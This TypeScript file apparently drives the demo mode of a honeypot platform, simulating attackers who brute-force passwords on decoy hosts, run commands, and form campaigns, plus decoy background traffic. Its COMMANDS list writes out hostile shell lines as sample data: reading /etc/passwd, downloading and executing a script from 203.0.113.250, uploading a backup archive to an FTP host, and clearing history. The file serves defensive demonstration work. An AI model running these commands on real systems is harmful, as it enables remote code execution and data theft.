import { newEventId } from '../bus/event.ts';
import { topics } from '../bus/topic.ts';
import { DEMO_TOPOLOGIES } from './inventory.ts';
import { logLine, pickAttacker, type Scene } from './scenes.ts';
import { type DemoAct, type DemoWorld, pick, randomBelow, tell } from './world.ts';

/** What the log lines of the demonstration tell: attackers who try passwords, get in, and look around. */

const DECKIES = DEMO_TOPOLOGIES.flatMap(({ deckies }) => deckies);
const USERS = ['root', 'admin', 'oracle', 'backup', 'pi'] as const;
const PASSWORDS = ['123456', 'toor', 'changeit', 'summer2026', 'letmein'] as const;
const COMMANDS = [
  ['uname -a', 'id', 'cat /etc/passwd'],
  ['wget http://203.0.113.250/x.sh', 'chmod +x x.sh', './x.sh'],
  ['ls -la /var/backups', 'tar czf b.tgz /var/backups', 'curl -T b.tgz ftp://203.0.113.250/'],
  ['crontab -l', 'history -c'],
] as const;

/** Somebody connects to a decky, tries passwords and, once in a while, gets in: lines, credentials, a session. */
export const attackSession: DemoAct = async (world) => {
  const [attacker, decky] = [await pickAttacker(world), pick(world, DECKIES)];
  if (attacker === undefined || decky === undefined) return;
  const scene: Scene = { attacker, decky: decky.name, service: pick(world, decky.services) ?? 'ssh' };
  await logLine(world, scene, 'connection', 'connection opened', {});
  const tries = 1 + randomBelow(world, 3);
  for (let turn = 0; turn < tries; turn += 1) await tryPassword(world, scene);
  if (world.random() < 0.6) await session(world, scene);
};

async function tryPassword(world: DemoWorld, scene: Scene): Promise<void> {
  const username = pick(world, USERS) ?? 'root';
  const password = pick(world, PASSWORDS) ?? '123456';
  await logLine(world, scene, 'login_attempt', `login of ${username} refused`, { username, password });
  await tell(world, topics.credential('captured'), 'captured', {
    secret_sha256: new Bun.CryptoHasher('sha256').update(password).digest('hex'),
    secret_kind: 'password',
    attacker_ip: scene.attacker.ip,
    decky: scene.decky,
    service: scene.service,
  });
}

async function session(world: DemoWorld, scene: Scene): Promise<void> {
  const { attacker, decky, service } = scene;
  const session_id = newEventId();
  const commands = [];
  for (const command of pick<readonly string[]>(world, COMMANDS) ?? []) {
    await logLine(world, scene, 'command', command, { session_id, command });
    commands.push({ id: newEventId(), command_text: command, ts: new Date().toISOString(), decky, service });
  }
  await tell(world, topics.attacker('session.ended'), 'session.ended', {
    session_id,
    attacker_uuid: attacker.uuid,
    attacker_ip: attacker.ip,
    decky_id: decky,
    service,
    ended_at: new Date().toISOString(),
    duration_s: commands.length * 4,
    commands,
    shard_path: null,
  });
  // Without an id: nothing keeps what was typed when, so there is nothing to play back.
  await logLine(world, scene, 'session_recorded', 'session kept', {
    service,
    duration_s: `${commands.length * 4}`,
    bytes: `${commands.length * 310}`,
  });
}

const MAX_CAMPAIGNS = 8;

/** Identities turn out to work together: a campaign forms, or another identity joins one. */
export const campaignGrows: DemoAct = async (world) => {
  const identities = await world.db
    .selectFrom('attacker_identities')
    .select(['uuid', 'campaign_id'])
    .where('merged_into_uuid', 'is', null)
    .orderBy('uuid')
    .limit(60)
    .execute();
  const campaigns = await world.db
    .selectFrom('campaigns')
    .select('uuid')
    .where('merged_into_uuid', 'is', null)
    .orderBy('uuid')
    .limit(MAX_CAMPAIGNS)
    .execute();
  const identity = pick(world, identities);
  if (identity === undefined) return;
  const { uuid: identity_uuid, campaign_id: prior_campaign_uuid } = identity;
  const isNew = campaigns.length < MAX_CAMPAIGNS && world.random() < 0.5;
  const campaign_uuid = (isNew ? undefined : pick(world, campaigns)?.uuid) ?? crypto.randomUUID();
  if (campaign_uuid === prior_campaign_uuid) return;
  const isFormed = !campaigns.some(({ uuid }) => uuid === campaign_uuid);
  if (isFormed) {
    await tell(world, topics.campaign('formed'), 'formed', { campaign_uuid, identity_uuids: [identity_uuid] });
  } else {
    const assigned = { campaign_uuid, identity_uuid, prior_campaign_uuid };
    await tell(world, topics.campaign('identity.assigned'), 'identity.assigned', assigned);
  }
  const assigned = { identity_uuid, campaign_uuid, prior_campaign_uuid };
  await tell(world, topics.identity('campaign.assigned'), 'campaign.assigned', assigned);
};

/** The orchestrator keeps the deckies looking used: a command, a file, a mail. */
export const orchestratorActs: DemoAct = async (world) => {
  const deckies = await world.db
    .selectFrom('topology_deckies')
    .select(['uuid', 'name'])
    .orderBy('uuid')
    .limit(50)
    .execute();
  const [source, target] = [pick(world, deckies), pick(world, deckies)];
  if (source === undefined || target === undefined) return;
  const ts = new Date().toISOString();
  const success = world.random() < 0.9;
  const kind = pick(world, ['traffic', 'file', 'email'] as const);
  if (kind === 'email') {
    await tell(world, topics.orchestrator('email', target.uuid), 'email', {
      kind,
      mail_decky_uuid: target.uuid,
      thread_id: `thread-${randomBelow(world, 20)}`,
      message_id: `<${newEventId()}@harbour.example>`,
      in_reply_to: null,
      sender_email: `${source.name}@harbour.example`,
      recipient_email: `${target.name}@harbour.example`,
      subject: pick(world, ['Invoice', 'Shift plan', 'Backup report']) ?? 'Invoice',
      language: 'en',
      success,
      ts,
    });
    return;
  }
  const isFile = kind === 'file';
  await tell(world, topics.orchestrator(isFile ? 'file' : 'traffic', target.uuid), isFile ? 'file' : 'traffic', {
    kind: isFile ? 'file' : 'traffic',
    protocol: 'ssh',
    action: isFile ? 'file:create:/home/ops/notes.txt' : 'exec:uptime',
    src_decky_uuid: isFile ? null : source.uuid,
    dst_decky_uuid: target.uuid,
    success,
    payload: success ? { exit: 0 } : { exit: 1, error: 'timed out' },
    ts,
  });
};
